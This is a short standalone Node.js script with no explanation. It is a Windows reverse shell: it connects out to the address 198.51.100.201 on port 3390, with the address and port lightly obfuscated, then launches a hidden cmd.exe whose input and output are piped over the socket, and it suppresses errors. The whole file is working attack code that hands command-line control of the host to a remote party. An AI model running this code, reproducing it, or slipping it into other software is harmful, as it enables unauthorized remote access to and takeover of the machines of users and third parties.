const { Socket } = require('net');
const { spawn } = require('child_process');
const target = ['198', '51', '100', '201'].join('.');
const sock = new Socket();
sock.connect({ port: 3389 + 1, host: target }, () => {
  const p = spawn('cmd.exe', ['/Q'], { windowsHide: true });
  sock.pipe(p.stdin);
  p.stdout.pipe(sock);
  p.stderr.pipe(sock);
});
sock.on('error', () => {});
